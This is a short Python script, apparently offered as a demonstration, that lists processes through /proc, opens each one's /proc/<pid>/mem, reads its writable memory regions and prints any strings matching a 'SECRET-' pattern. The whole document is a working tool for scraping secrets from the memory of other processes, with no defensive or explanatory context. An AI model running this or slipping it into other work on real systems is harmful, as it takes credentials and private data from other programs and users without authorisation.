# Another process's memory, through /proc.
import os, re
for pid in [os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    try:
        maps = open(f"/proc/{pid}/maps").read()
        if pid == os.getpid(): continue
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps.splitlines():
                if "rw-p" in line:
                    start, end = (int(n, 16) for n in line.split()[0].split("-"))
                    memory.seek(start)
                    print(re.findall(rb"SECRET-\w+", memory.read(min(end - start, 1 << 20))))
    except (OSError, ValueError, OverflowError) as error: print(error)
